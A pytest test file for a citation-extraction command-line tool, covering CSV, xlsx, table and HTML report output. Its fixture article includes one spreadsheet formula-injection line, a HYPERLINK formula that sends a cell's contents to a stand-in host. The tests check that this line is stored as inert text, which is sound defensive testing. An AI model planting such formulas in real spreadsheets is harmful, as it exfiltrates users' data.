"""Spreadsheet-ready output: the BOM for Excel, the xlsx workbook, sources beside claims, and a
table view that fits a terminal."""

from __future__ import annotations

import csv
import io

import pytest
from typer.testing import CliRunner

from claimtrace.cli import app

ARTICLE = """Sea levels rose 20 cm between 1901 and 2018.[1] Café owners in Zürich said prices doubled.[2]
=HYPERLINK("http://example.com/?leak="&A2,"See source [1]") is what an attacker writes.
Unemployment fell to 4.1 percent in 2019, officials said. See the agency's report.[7]

References
[1] Church, J. A. and White, N. J. (2011). Sea-level rise from the late 19th to the early 21st century. Surv Geophys 32: 585-602. doi:10.1007/s10712-011-9119-1
[2] Meier, A. (2020). "Prices in Zürich". Example News. https://example.org/zurich
"""


@pytest.fixture
def article(tmp_path):
    path = tmp_path / "article.txt"
    path.write_text(ARTICLE, encoding="utf-8")
    return path


def test_excel_option_writes_a_bom_and_csv_still_parses(article):
    result = CliRunner().invoke(app, ["extract", str(article), "-f", "csv", "--excel"])
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("\ufeffdoc,id,")
    rows = list(csv.DictReader(io.StringIO(result.stdout.removeprefix("\ufeff"))))
    assert any("Zürich" in row["text"] for row in rows)
    plain = CliRunner().invoke(app, ["extract", str(article), "-f", "csv"]).stdout
    assert not plain.startswith("\ufeff")


def test_sources_sit_beside_the_citations(article):
    result = CliRunner().invoke(app, ["extract", str(article), "-f", "csv"])
    rows = {row["text"][:15]: row for row in csv.DictReader(io.StringIO(result.stdout))}
    sea = rows["Sea levels rose"]
    assert sea["citations"] == "1"
    assert sea["sources"] == "[1] Church 2011. Sea-level rise from the late 19th to the early 21st century. doi:10.1007/s10712-011-9119-1"
    assert rows["Café owners in "]["sources"] == "[2] Meier 2020. Prices in Zürich. https://example.org/zurich"
    assert rows["Unemployment fe"]["sources"] == ""  # [7] has no entry: nothing to show


def test_xlsx_workbook_reads_back(article, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "ledger.xlsx"
    result = CliRunner().invoke(app, ["extract", str(article), "-o", str(out), "--all"])
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["Claims", "References", "Summary"]
    claims = book["Claims"]
    header = [c.value for c in claims[1]]
    assert claims.freeze_panes == "A2" and claims.auto_filter.ref
    rows = [dict(zip(header, (c for c in row))) for row in claims.iter_rows(min_row=2)]
    # No cell is a formula, not even the one written to look like one.
    assert all(cell.data_type != "f" for row in claims.iter_rows() for cell in row)
    attack = next(r for r in rows if str(r["text"].value).startswith("=HYPERLINK"))
    assert attack["text"].data_type == "s"
    sea = next(r for r in rows if str(r["text"].value).startswith("Sea levels"))
    assert sea["is_claim"].value is True and isinstance(sea["score"].value, float)
    assert sea["citations"].hyperlink.location == "'References'!A2"  # jumps to entry [1]
    uncited = next(r for r in rows if r["is_claim"].value and not r["citations"].value and not r["links"].value)
    assert uncited["text"].fill.fgColor.rgb.endswith("FCE4D6")  # uncited claims stand out
    refs = book["References"]
    doi = [c for c in refs[2] if c.hyperlink is not None]
    assert doi and doi[0].hyperlink.target == "https://doi.org/10.1007/s10712-011-9119-1"
    summary = [[c.value for c in row] for row in book["Summary"].iter_rows(values_only=False)]
    assert summary[1][0] == str(article) and summary[-1][0] == "(all documents)"
    header = summary[0]
    assert summary[-1][header.index("reference_entries")] == 2  # the total counts every document's entries


def test_references_command_writes_xlsx(article, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "refs.xlsx"
    assert CliRunner().invoke(app, ["references", str(article), "-o", str(out)]).exit_code == 0
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["References", "Summary"]
    assert book["References"].max_row == 3


def test_table_fits_80_columns_and_wide_shows_everything(article):
    narrow = CliRunner().invoke(app, ["extract", str(article), "-f", "table"], terminal_width=80).stdout
    assert max(len(line) for line in narrow.splitlines()) <= 80
    assert "…" in narrow and "why" not in narrow
    wide = CliRunner().invoke(app, ["extract", str(article), "-f", "table", "--wide"]).stdout
    assert "why" in wide and "sources" in wide and "Church 2011" in wide


def test_report_marks_markers_without_an_entry(tmp_path):
    page = tmp_path / "report.html"
    source = tmp_path / "a.txt"
    source.write_text("Sea level rose.[1] Wages fell 4% in 2020.[3]\n\nReferences\n[1] Church (2011) Sea. J 1: 2.\n[2] NOAA (2022) Rise. J 2: 3.\n",
                      encoding="utf-8")
    assert CliRunner().invoke(app, ["report", str(source), "-o", str(page)]).exit_code == 0
    html = page.read_text(encoding="utf-8")
    assert 'href="#d0-ref1"' in html and 'class="m missing"' in html and 'href="#d0-ref3"' not in html
    assert "cited but missing from the list" in html
    assert "<script>alert" not in html


def test_xlsx_stops_linking_at_excels_limit(monkeypatch, tmp_path):
    """Past Excel's hyperlinks-a-sheet limit, citation cells are written as plain text, quietly."""
    openpyxl = pytest.importorskip("openpyxl")
    from claimtrace.writers import xlsx

    monkeypatch.setattr(xlsx, "_LINKS_A_SHEET", 2)
    source = tmp_path / "a.txt"
    source.write_text("A rose 5%.[1] B rose 6%.[1] C rose 7%.[1]\n\nReferences\n[1] Church (2011) Sea. J 1: 2.\n", encoding="utf-8")
    out = tmp_path / "a.xlsx"
    result = CliRunner().invoke(app, ["extract", str(source), "-o", str(out)])
    assert result.exit_code == 0 and "warn" not in result.stderr.lower()
    sheet = openpyxl.load_workbook(out)["Claims"]
    column = [c.value for c in sheet[1]].index("citations")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == ["1", "1", "1"] and [c.hyperlink is not None for c in cells] == [True, True, False]


def test_xlsx_page_setup_prints_one_page_wide_with_text_early(article, tmp_path):
    # Issue 22: LibreOffice printed 17 columns over 22 pages, `text` on page 5, and wrapped
    # text overflowed rows of a fixed height.
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "ledger.xlsx"
    assert CliRunner().invoke(app, ["extract", str(article), "-o", str(out), "--all"]).exit_code == 0
    book = openpyxl.load_workbook(out)
    for name, last in (("Claims", "H"), ("References", "G"), ("Summary", None)):
        sheet = book[name]
        setup = sheet.page_setup
        # fitToWidth 1 is the OOXML default, which XlsxWriter leaves out
        assert setup.orientation == "landscape" and setup.fitToWidth in (None, 1) and setup.fitToHeight == 0
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.print_title_rows == "$1:$1"  # the header row on every page
        if last:
            assert sheet.print_area == f"'{name}'!$A$1:${last}${sheet.max_row}"
    claims = book["Claims"]
    header = [c.value for c in claims[1]]
    assert header[:2] == ["text", "is_claim"] and header.index("why") == 7  # the printed columns: A to H
    width = claims.column_dimensions["A"].width
    for row in claims.iter_rows(min_row=2):
        text = row[0].value
        assert row[0].alignment.wrap_text
        lines = max(1, -(-len(text) // int(width * 1.15)))
        height = claims.row_dimensions[row[0].row].height
        assert (height or 15) >= 15 * min(lines, 27) - 0.01, (text, height)
    assert any(claims.row_dimensions[r].height for r in range(2, claims.max_row + 1))  # some wrap


@pytest.mark.parametrize("text, width, lines", [
    ("", 10, 1),
    ("x" * 11, 10, 1),  # a column 10 wide holds about 11 characters
    ("x" * 23, 10, 3),  # a word longer than a line breaks across lines
    ("aaaaaa bbbbbb cccccc", 10, 3),  # a word that does not fit the rest of the line starts the next
    ("[1] Smith J. 2001. The founders of all." + " https://example.org/" + "p" * 30, 40, 3),  # the URL below its entry, in two lines
    ("one\n\ntwo", 10, 3),
])
def test_rows_are_as_tall_as_their_words_wrap(text, width, lines):
    """A sources cell's URLs wrap onto lines of their own: counted by characters alone, a row
    of entries with URLs was cut off in the printed workbook (the URL's tail hidden)."""
    from claimtrace.writers.xlsx import lines_needed

    assert lines_needed(text, width) == lines
